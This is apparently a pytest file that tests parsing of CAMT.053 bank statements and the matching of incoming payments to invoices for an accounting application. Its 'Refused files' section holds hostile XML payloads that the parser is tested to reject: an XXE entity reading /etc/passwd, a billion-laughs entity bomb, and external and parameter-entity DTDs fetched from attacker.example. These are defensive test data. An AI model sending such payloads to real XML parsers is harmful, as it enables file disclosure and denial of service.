"""CAMT.053 statement parsing and matching of credits to invoices (M5)."""
from __future__ import annotations

import time
from dataclasses import replace
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from openflyers_account.domain.references import creditor_reference
from openflyers_account.domain.statements import (
    CreditDebit,
    MatchMethod,
    OpenInvoice,
    StatementEntry,
    StatementErrorCode,
    StatementError,
    is_statement_of,
    match_entries,
    name_words,
    parse_statement,
)
from tests.domain.camt_factory import VENDOR_IBAN, CamtEntry, camt053, camt053_with_entries

SAMPLE = Path(__file__).parent.parent / "fixtures" / "camt053_sample.xml"
MAX_BYTES = 1_000_000
D = Decimal


def parse(data: bytes) -> tuple[StatementEntry, ...]:
    return parse_statement(data, max_bytes=MAX_BYTES).entries


def refused(data: bytes, max_bytes: int = MAX_BYTES) -> StatementErrorCode:
    with pytest.raises(StatementError) as error:
        parse_statement(data, max_bytes=max_bytes)
    return error.value.code


def invoice(number: str, balance: str, buyer: str) -> OpenInvoice:
    return OpenInvoice(number, creditor_reference(number), D(balance), buyer)


def credit(**fields: object) -> StatementEntry:
    values: dict[str, object] = {
        "entry_ref": "REF1",
        "booking_date": date(2026, 1, 15),
        "amount": D("1440.00"),
        "currency": "EUR",
        "direction": CreditDebit.CREDIT,
        "debtor_name": None,
        "remittance_text": "",
        "creditor_reference": None,
        "end_to_end_id": None,
        "additional_info": None,
    }
    values.update(fields)
    return StatementEntry(**values)  # type: ignore[arg-type]


SAMPLE_INVOICES = (
    invoice("F-2026-00042", "1440.00", "Aéroclub Jean Mermoz"),
    invoice("F-2026-00043", "864.00", "Aéro-Club du Béarn"),
    invoice("F-2026-00044", "1180.80", "Association Aéroclub des Alpilles"),
    invoice("F-2026-00045", "2400.00", "Aéroclub de Haute-Provence"),
)


# --- Parsing -------------------------------------------------------------------------------


def test_m5_sample_statement_is_parsed() -> None:
    statement = parse_statement(SAMPLE.read_bytes(), max_bytes=MAX_BYTES)

    assert statement.id == "2026011500012345678901"
    assert statement.account_iban == VENDOR_IBAN
    assert statement.created_at == datetime(2026, 1, 15, 22, 14, 3, tzinfo=timezone(timedelta(hours=1)))
    assert [entry.direction for entry in statement.entries] == ["CRDT"] * 4 + ["DBIT"]
    assert len(statement.credits) == 4
    first = statement.entries[0]
    assert first == StatementEntry(
        entry_ref="2026011500A1B2C3",
        booking_date=date(2026, 1, 15),
        amount=D("1440.00"),
        currency="EUR",
        direction=CreditDebit.CREDIT,
        debtor_name="AEROCLUB JEAN MERMOZ",
        remittance_text="",
        creditor_reference="RF93F202600042",
        end_to_end_id="MERMOZ-2026-001",
        additional_info="VIR SEPA RECU /DE AEROCLUB JEAN MERMOZ",
    )
    second = statement.entries[1]
    # Ustrd lines are joined; the SEPA "NOTPROVIDED" placeholder is no end-to-end id.
    assert second.remittance_text == "REGLEMENT FACTURE F 2026 00043 COTISATION LOGICIEL 2026"
    assert second.end_to_end_id is None


@pytest.mark.parametrize("version", ["02", "03", "04", "05", "06", "07", "08"])
def test_m5_every_camt053_version_from_02_to_08_is_read(version: str) -> None:
    data = camt053(
        [CamtEntry(D("864.00"), debtor_name="AERO CLUB DU BEARN", remittance=("F-2026-00043",), servicer_ref="B1")],
        version=version,
    )
    (entry,) = parse(data)
    assert (entry.entry_ref, entry.amount, entry.debtor_name, entry.remittance_text) == (
        "B1",
        D("864.00"),
        "AERO CLUB DU BEARN",
        "F-2026-00043",
    )


def test_m5_pending_entries_are_not_money_yet() -> None:
    data = camt053([CamtEntry(D("10.00"), servicer_ref="B1"), CamtEntry(D("20.00"), status="PDNG", servicer_ref="B2")])
    assert [entry.entry_ref for entry in parse(data)] == ["B1"]


def test_m5_entries_without_bank_reference_get_the_same_key_on_every_import() -> None:
    data = camt053([CamtEntry(D("10.00")), CamtEntry(D("10.00"))], statement_id="S-15")
    first, second = parse(data), parse(data)
    assert [entry.entry_ref for entry in first] == ["S-15/1", "S-15/2"]
    assert first == second
    # Such a key says nothing outside its statement: the import compares the figures instead.
    assert [entry.has_bank_reference for entry in first] == [False, False]
    with_reference = parse(camt053([CamtEntry(D("10.00"), servicer_ref="B1")], statement_id="S-15"))
    assert [entry.has_bank_reference for entry in with_reference] == [True]


def test_m5_batch_booking_is_split_into_its_transactions() -> None:
    ns = "urn:iso:std:iso:20022:tech:xsd:camt.053.001.04"

    def tx(amount: str, name: str, text: str) -> str:
        return (
            f"<TxDtls><Amt Ccy='EUR'>{amount}</Amt><RltdPties><Dbtr><Nm>{name}</Nm></Dbtr></RltdPties>"
            f"<RmtInf><Ustrd>{text}</Ustrd></RmtInf></TxDtls>"
        )

    data = (
        f"<Document xmlns='{ns}'><BkToCstmrStmt><Stmt><Id>S1</Id><CreDtTm>2026-01-15T22:00:00</CreDtTm>"
        f"<Acct><Id><IBAN>{VENDOR_IBAN}</IBAN></Id></Acct>"
        "<Ntry><Amt Ccy='EUR'>2304.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts>"
        "<BookgDt><Dt>2026-01-15</Dt></BookgDt><AcctSvcrRef>BATCH7</AcctSvcrRef><NtryDtls>"
        + tx("1440.00", "AEROCLUB JEAN MERMOZ", "F-2026-00042")
        + tx("864.00", "AERO CLUB DU BEARN", "F-2026-00043")
        + "</NtryDtls></Ntry></Stmt></BkToCstmrStmt></Document>"
    ).encode()

    entries = parse(data)

    assert [(entry.entry_ref, entry.amount, entry.debtor_name) for entry in entries] == [
        ("BATCH7/1", D("1440.00"), "AEROCLUB JEAN MERMOZ"),
        ("BATCH7/2", D("864.00"), "AERO CLUB DU BEARN"),
    ]


# --- Refused files -------------------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt>
<Id>&xxe;</Id></Stmt></BkToCstmrStmt></Document>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02">&lol9;</Document>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/camt.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"/>"""

PLAIN_DOCTYPE = b"""<?xml version="1.0"?>
<!DOCTYPE Document>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"/>"""


@pytest.mark.parametrize(
    "data",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY, PLAIN_DOCTYPE],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity", "doctype"],
)
def test_m5_hostile_xml_is_refused(data: bytes) -> None:
    assert refused(data) == "hostile"


def test_m5_hostile_doctype_is_refused_before_any_content_is_read() -> None:
    # The entity would be expanded inside a valid statement; the DOCTYPE alone refuses it.
    data = camt053([CamtEntry(D("10.00"))]).replace(
        b"<Document", b'<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<Document', 1
    )
    assert refused(data) == "hostile"


def test_m5_oversized_file_is_refused_before_parsing() -> None:
    data = camt053([CamtEntry(D("10.00"))])
    assert refused(data, max_bytes=len(data) - 1) == "too_large"
    assert parse_statement(data, max_bytes=len(data)).entries


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"not xml at all",
        camt053([CamtEntry(D("10.00"))])[:-20],
        camt053([CamtEntry(D("10.00"))]).replace(b"10.00", b"ten"),
        camt053([CamtEntry(D("10.00"))]).replace(b"10.00", b"10.001"),
        camt053([CamtEntry(D("10.00"))]).replace(b"10.00", b"NaN"),
        camt053([CamtEntry(D("10.00"))]).replace(b"10.00", b"-10.00"),
        camt053([CamtEntry(D("10.00"))]).replace(b"<CdtDbtInd>CRDT</CdtDbtInd>", b""),
        camt053([CamtEntry(D("10.00"))]).replace(b"2026-01-15</Dt>", b"15/01/2026</Dt>"),
        camt053([CamtEntry(D("10.00"))]).replace(b"<IBAN>", b"<Othr>").replace(b"</IBAN>", b"</Othr>"),
    ],
    ids=[
        "empty",
        "text",
        "truncated",
        "amount-text",
        "amount-mills",
        "amount-nan",
        "amount-negative",
        "no-direction",
        "french-date",
        "no-iban",
    ],
)
def test_m5_malformed_file_is_refused(data: bytes) -> None:
    assert refused(data) == "malformed"


@pytest.mark.parametrize(
    "data",
    [
        camt053([CamtEntry(D("10.00"))]).replace(b"camt.053.001.02", b"camt.054.001.02"),
        camt053([CamtEntry(D("10.00"))]).replace(b"camt.053.001.02", b"camt.053.001.09"),
        b"<html><body>statement</body></html>",
        camt053([CamtEntry(D("10.00"))]).replace(b"</Stmt>", b"</Stmt><Stmt><Id>S2</Id></Stmt>"),
    ],
    ids=["camt054", "camt053-09", "html", "two-statements"],
)
def test_m5_other_documents_are_refused_as_unsupported(data: bytes) -> None:
    assert refused(data) == "unsupported"


def test_m5_debit_only_file_is_refused() -> None:
    data = camt053([CamtEntry(D("26.00"), credit=False), CamtEntry(D("90.00"), credit=False)])
    assert refused(data) == "no_credit"


def test_m5_file_with_only_pending_credits_is_refused() -> None:
    assert refused(camt053([CamtEntry(D("10.00"), status="PDNG")])) == "no_credit"


@pytest.mark.parametrize(
    "data",
    [
        camt053([CamtEntry(D("1440.00"), currency="USD")], account_currency="USD"),
        camt053([CamtEntry(D("1440.00")), CamtEntry(D("90.00"), currency="USD")]),
        camt053([CamtEntry(D("1440.00"))], account_currency="USD"),
    ],
    ids=["usd-file", "usd-entry", "usd-account"],
)
def test_m5_non_euro_file_is_refused(data: bytes) -> None:
    assert refused(data) == "currency"


def test_m5_error_code_is_typed_and_keeps_the_detail_for_logs() -> None:
    error = StatementError("too_large", "2000000 bytes")
    assert error.code is StatementErrorCode.TOO_LARGE
    assert error.detail == "2000000 bytes"
    with pytest.raises(ValueError):
        StatementError("whatever")


# --- Matching ------------------------------------------------------------------------------


def test_m5_sample_statement_credits_are_matched_in_rule_order() -> None:
    statement = parse_statement(SAMPLE.read_bytes(), max_bytes=MAX_BYTES)

    matches = match_entries(statement.entries, SAMPLE_INVOICES)

    assert [(match.invoice_number, match.method, match.confidence) for match in matches] == [
        ("F-2026-00042", MatchMethod.REFERENCE, 100),
        ("F-2026-00043", MatchMethod.INVOICE_NUMBER, 90),
        ("F-2026-00044", MatchMethod.SUGGESTED, 60),
        (None, MatchMethod.NONE, 0),
    ]
    # The bank charges are money out: never proposed.
    assert all(match.entry.is_credit for match in matches)


def test_m5_matches_by_creditor_reference() -> None:
    (match,) = match_entries([credit(creditor_reference="RF93F202600042")], SAMPLE_INVOICES)
    assert (match.invoice_number, match.method) == ("F-2026-00042", MatchMethod.REFERENCE)


@pytest.mark.parametrize(
    "fields",
    [
        {"remittance_text": "REGLEMENT RF93 F202 6000 42"},
        {"remittance_text": "rf93f202600042 merci"},
        {"additional_info": "VIR SEPA RECU /DE AC MERMOZ /MOTIF RF93F202600042"},
        {"creditor_reference": "rf93 f202 6000 42"},
    ],
)
def test_m5_matches_by_creditor_reference_in_free_text(fields: dict[str, str]) -> None:
    (match,) = match_entries([credit(**fields)], SAMPLE_INVOICES)
    assert (match.invoice_number, match.method) == ("F-2026-00042", MatchMethod.REFERENCE)


def test_m5_creditor_reference_wins_over_invoice_number() -> None:
    entry = credit(creditor_reference="RF93F202600042", remittance_text="FACTURE F-2026-00043")
    (match,) = match_entries([entry], SAMPLE_INVOICES)
    assert (match.invoice_number, match.method) == ("F-2026-00042", MatchMethod.REFERENCE)


@pytest.mark.parametrize(
    "text", ["FACTURE F-2026-00043", "fact f 2026 00043", "F202600043", "F-2026-00099 F-2026-00043"]
)
def test_m5_matches_by_invoice_number_in_free_text(text: str) -> None:
    (match,) = match_entries([credit(amount=D("864.00"), remittance_text=text)], SAMPLE_INVOICES)
    assert (match.invoice_number, match.method, match.confidence) == ("F-2026-00043", MatchMethod.INVOICE_NUMBER, 90)


def test_m5_reference_of_an_invoice_no_longer_open_falls_back_to_the_next_rule() -> None:
    # Paying twice: the first invoice is paid, the text names the other one.
    entry = credit(
        amount=D("864.00"), creditor_reference=creditor_reference("F-2026-00001"), remittance_text="F-2026-00043"
    )
    (match,) = match_entries([entry], SAMPLE_INVOICES)
    assert (match.invoice_number, match.method) == ("F-2026-00043", MatchMethod.INVOICE_NUMBER)


def test_m5_partial_payment_is_matched_with_less_confidence() -> None:
    (match,) = match_entries([credit(amount=D("700.00"), creditor_reference="RF93F202600042")], SAMPLE_INVOICES)
    assert (match.invoice_number, match.method, match.confidence) == ("F-2026-00042", MatchMethod.REFERENCE, 80)


@pytest.mark.parametrize(
    "payer",
    ["AEROCLUB DES ALPILLES", "AÉRO-CLUB DES ALPILLES", "Association Aero Club Alpilles", "ASSO. AÉROCLUB ALPILLES"],
)
def test_m5_suggests_by_amount_and_payer_name(payer: str) -> None:
    (match,) = match_entries([credit(amount=D("1180.80"), debtor_name=payer)], SAMPLE_INVOICES)
    assert (match.invoice_number, match.method, match.confidence) == ("F-2026-00044", MatchMethod.SUGGESTED, 60)


@pytest.mark.parametrize(
    ("amount", "payer"),
    [
        # Same amount, another club.
        ("1180.80", "AEROCLUB DU BEARN"),
        # Only the words every club has.
        ("1180.80", "AEROCLUB ASSOCIATION"),
        # Right club, amount of no open balance.
        ("1180.00", "AEROCLUB DES ALPILLES"),
        ("1180.80", None),
    ],
)
def test_m5_no_suggestion_without_both_amount_and_name(amount: str, payer: str | None) -> None:
    (match,) = match_entries([credit(amount=D(amount), debtor_name=payer)], SAMPLE_INVOICES)
    assert (match.invoice_number, match.method, match.confidence) == (None, MatchMethod.NONE, 0)


def test_m5_ambiguous_suggestion_is_not_made() -> None:
    invoices = (
        invoice("F-2026-00050", "960.00", "Aéroclub de Saint-Cyr-l'École"),
        invoice("F-2026-00051", "960.00", "Aéroclub Cyr et Vexin"),
    )
    (match,) = match_entries([credit(amount=D("960.00"), debtor_name="AEROCLUB CYR")], invoices)
    assert match.method is MatchMethod.NONE
    (match,) = match_entries([credit(amount=D("960.00"), debtor_name="AEROCLUB VEXIN")], invoices)
    assert (match.invoice_number, match.method) == ("F-2026-00051", MatchMethod.SUGGESTED)


def test_m5_debit_entries_are_never_matched() -> None:
    debit = credit(direction=CreditDebit.DEBIT, creditor_reference="RF93F202600042")
    assert match_entries([debit], SAMPLE_INVOICES) == ()


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("Aéro-Club Jean Mermoz", {"jean", "mermoz"}),
        ("AEROCLUB JEAN MERMOZ", {"jean", "mermoz"}),
        ("Association aéronautique d'Étampes", {"aeronautique", "etampes"}),
        ("Aéroclub de Saint-Cyr-l'École", {"cyr", "ecole"}),
        ("AC  du  Béarn", {"bearn"}),
    ],
)
def test_m5_names_are_compared_without_case_accents_punctuation_or_club_words(name: str, words: set[str]) -> None:
    assert name_words(name) == words


@pytest.mark.slow
def test_m5_ten_thousand_entries_parse_and_match_in_under_three_seconds() -> None:
    data, invoices = camt053_with_entries(10_000)

    started = time.perf_counter()
    statement = parse_statement(data, max_bytes=len(data))
    matches = match_entries(statement.entries, invoices)
    elapsed = time.perf_counter() - started

    assert len(matches) == 10_000
    assert all(match.invoice_number == invoice.number for match, invoice in zip(matches, invoices))
    assert elapsed < 3


@pytest.mark.parametrize("seller_iban, expected", [
    (VENDOR_IBAN, True),
    ("fr76 3000 6000 0112 3456 7890 189", True),
    ("FR7610107001011234567890129", False),
    ("", True),  # no account configured: nothing to compare with
])
def test_m5_a_statement_is_for_the_account_invoices_are_paid_to(seller_iban: str, expected: bool) -> None:
    statement = parse_statement(camt053([CamtEntry(D("10.00"))]), max_bytes=MAX_BYTES)
    assert is_statement_of(statement, seller_iban) is expected


def test_m5_a_statement_naming_no_iban_has_nothing_to_compare() -> None:
    statement = replace(parse_statement(camt053([CamtEntry(D("10.00"))]), max_bytes=MAX_BYTES), account_iban="")
    assert is_statement_of(statement, VENDOR_IBAN)
